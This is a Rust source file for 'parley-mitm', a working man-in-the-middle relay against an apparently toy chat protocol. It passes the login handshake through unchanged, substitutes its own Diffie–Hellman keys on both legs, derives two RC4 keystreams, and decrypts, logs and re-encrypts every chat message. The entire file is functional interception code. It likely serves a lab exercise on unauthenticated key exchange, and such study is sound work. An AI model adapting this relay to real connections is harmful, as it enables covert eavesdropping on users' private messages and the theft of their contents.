//! The MITM splice: a relay that forwards the authentication handshake
//! unchanged
//! and then substitutes its own Diffie–Hellman keys on both legs, so it ends
//! up holding two independent keystreams and can read every message in
//! cleartext as it passes through.
//!
//! It never touches a real user directory: `ConnectRequest`/`HashAnswer` are
//! relayed byte-for-byte and the real server is left to decide whether the
//! login is valid. Only the key exchange is intercepted.

use std::net::SocketAddr;

use anyhow::{bail, Context, Result};
use num_bigint::{BigUint, RandBigInt};
use parley_core::wire::{b64_decode, b64_encode, ClientMessage, ServerMessage};
use parley_core::Rc4;
use parley_services::chat::ChatRequest;
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
use tokio::net::{TcpListener, TcpStream};

fn parse_args() -> (String, String) {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut bind = "127.0.0.1:4434".to_string();
    let mut upstream = None;
    let mut i = 0;
    while i < args.len() {
        match args[i].as_str() {
            "--bind" => {
                i += 1;
                if let Some(value) = args.get(i) {
                    bind = value.clone();
                }
            }
            other => upstream = Some(other.to_string()),
        }
        i += 1;
    }
    let upstream = upstream.unwrap_or_else(|| {
        eprintln!("usage: parley-mitm <upstream-host[:port]> [--bind host:port]");
        std::process::exit(1);
    });
    (upstream, bind)
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .init();

    let (upstream, bind) = parse_args();
    let listener = TcpListener::bind(&bind).await.with_context(|| format!("binding {bind}"))?;
    tracing::info!(%bind, %upstream, "mitm listening");

    loop {
        let (client_stream, peer) = listener.accept().await.context("accepting connection")?;
        let upstream = upstream.clone();
        tokio::spawn(async move {
            if let Err(e) = splice(client_stream, &upstream, peer).await {
                tracing::warn!(%peer, error = %e, "splice ended with an error");
            }
        });
    }
}

/// One random secret/public Diffie–Hellman keypair drawn against `(g, p)`.
struct Ephemeral {
    secret: BigUint,
    public: BigUint,
}

impl Ephemeral {
    fn generate(g: &BigUint, p: &BigUint) -> Self {
        let mut rng = rand::thread_rng();
        let two = BigUint::from(2u32);
        let secret = rng.gen_biguint_range(&two, p);
        let public = g.modpow(&secret, p);
        Ephemeral { secret, public }
    }
}

/// Splice one client connection through to `upstream`, substituting both
/// legs' Diffie–Hellman exchanges so the proxy ends up holding both
/// keystreams.
async fn splice(client_stream: TcpStream, upstream: &str, peer: SocketAddr) -> Result<()> {
    let (client_read, mut client_write) = client_stream.into_split();
    let mut client_reader = BufReader::new(client_read);

    let server_stream = TcpStream::connect(upstream).await.context("connecting to upstream")?;
    let (server_read, mut server_write) = server_stream.into_split();
    let mut server_reader = BufReader::new(server_read);

    // ConnectRequest: capture the claimed username, forward unchanged.
    let line = read_line(&mut client_reader).await?;
    let connect = ClientMessage::decode(&line).context("decoding ConnectRequest")?;
    let author = match &connect {
        ClientMessage::ConnectRequest { username } => username.clone(),
        other => bail!("expected ConnectRequest, got {other:?}"),
    };
    write_line(&mut server_write, &connect.encode()).await?;
    tracing::info!(%peer, %author, "intercepted login");

    // Nonce: forward unchanged.
    let line = read_line(&mut server_reader).await?;
    match ServerMessage::decode(&line)? {
        ServerMessage::Nonce { .. } => write_line(&mut client_write, &line).await?,
        ServerMessage::ServerError { text } => {
            write_line(&mut client_write, &line).await?;
            bail!("upstream rejected connect: {text}");
        }
        other => bail!("expected Nonce, got {other:?}"),
    }

    // HashAnswer: forward unchanged.
    let line = read_line(&mut client_reader).await?;
    match ClientMessage::decode(&line)? {
        msg @ ClientMessage::HashAnswer { .. } => write_line(&mut server_write, &msg.encode()).await?,
        other => bail!("expected HashAnswer, got {other:?}"),
    }

    // DiffieRequest from the real server: note the real (g, p, A), then hand
    // the client our own public value in its place.
    let line = read_line(&mut server_reader).await?;
    let (g, p, server_public) = match ServerMessage::decode(&line)? {
        ServerMessage::DiffieRequest { g, p, server_public_value } => {
            let g = parse_biguint(&g)?;
            let p = parse_biguint(&p)?;
            let a = parse_biguint(&server_public_value)?;
            (g, p, a)
        }
        ServerMessage::ServerError { text } => {
            write_line(&mut client_write, &line).await?;
            bail!("upstream rejected credentials: {text}");
        }
        other => bail!("expected DiffieRequest, got {other:?}"),
    };

    let client_leg = Ephemeral::generate(&g, &p);
    let forged_request = ServerMessage::DiffieRequest {
        g: g.to_str_radix(10),
        p: p.to_str_radix(10),
        server_public_value: client_leg.public.to_str_radix(10),
    };
    write_line(&mut client_write, &forged_request.encode()).await?;

    // DiffieAnswer from the real client: derive the client-facing keystream,
    // then substitute our own public value on the upstream leg.
    let line = read_line(&mut client_reader).await?;
    let client_public = match ClientMessage::decode(&line)? {
        ClientMessage::DiffieAnswer { client_public_value } => parse_biguint(&client_public_value)?,
        other => bail!("expected DiffieAnswer, got {other:?}"),
    };
    let client_shared = client_public.modpow(&client_leg.secret, &p);
    let mut client_generator = Rc4::new(&client_shared);
    tracing::debug!(%peer, "client-facing keystream established");

    let server_leg = Ephemeral::generate(&g, &p);
    let forged_answer =
        ClientMessage::DiffieAnswer { client_public_value: server_leg.public.to_str_radix(10) };
    write_line(&mut server_write, &forged_answer.encode()).await?;
    let server_shared = server_public.modpow(&server_leg.secret, &p);
    let mut server_generator = Rc4::new(&server_shared);
    tracing::debug!(%peer, "server-facing keystream established");

    // DiffieOk: forward unchanged.
    let line = read_line(&mut server_reader).await?;
    match ServerMessage::decode(&line)? {
        ServerMessage::DiffieOk => write_line(&mut client_write, &line).await?,
        other => bail!("expected DiffieOk, got {other:?}"),
    }

    // Application loop: decrypt with one keystream, re-encrypt with the
    // other, so both legs see a connection that behaves exactly like the
    // real one while every message passes through us in the clear.
    loop {
        let line = read_line(&mut client_reader).await?;
        match ClientMessage::decode(&line)? {
            ClientMessage::ClientGoodbye => {
                write_line(&mut server_write, &ClientMessage::ClientGoodbye.encode()).await?;
                return Ok(());
            }
            ClientMessage::ClientData { data } => {
                let raw = b64_decode(&data).context("decoding ClientData")?;
                let plaintext = client_generator.apply(&raw);

                if let Some(ChatRequest::Write { content }) =
                    std::str::from_utf8(&plaintext).ok().and_then(ChatRequest::parse)
                {
                    println!("{author}: {content}");
                }

                let reencrypted = b64_encode(&server_generator.apply(&plaintext));
                write_line(&mut server_write, &ClientMessage::ClientData { data: reencrypted }.encode()).await?;
            }
            other => bail!("unexpected message from client: {other:?}"),
        }

        let line = read_line(&mut server_reader).await?;
        match ServerMessage::decode(&line)? {
            ServerMessage::ServerCryptogramm { content } => {
                let raw = b64_decode(&content).context("decoding ServerCryptogramm")?;
                let plaintext = server_generator.apply(&raw);
                let reencrypted = b64_encode(&client_generator.apply(&plaintext));
                write_line(&mut client_write, &ServerMessage::ServerCryptogramm { content: reencrypted }.encode())
                    .await?;
            }
            other => bail!("unexpected message from server: {other:?}"),
        }
    }
}

fn parse_biguint(s: &str) -> Result<BigUint> {
    s.parse::<BigUint>().map_err(|_| anyhow::anyhow!("not a decimal integer: {s}"))
}

async fn read_line(reader: &mut BufReader<OwnedReadHalf>) -> Result<String> {
    let mut line = String::new();
    let n = reader.read_line(&mut line).await.context("reading frame")?;
    if n == 0 {
        bail!("peer closed the connection");
    }
    Ok(line.trim_end().to_string())
}

async fn write_line(writer: &mut OwnedWriteHalf, line: &str) -> Result<()> {
    writer.write_all(line.as_bytes()).await?;
    writer.write_all(b"\n").await?;
    writer.flush().await?;
    Ok(())
}
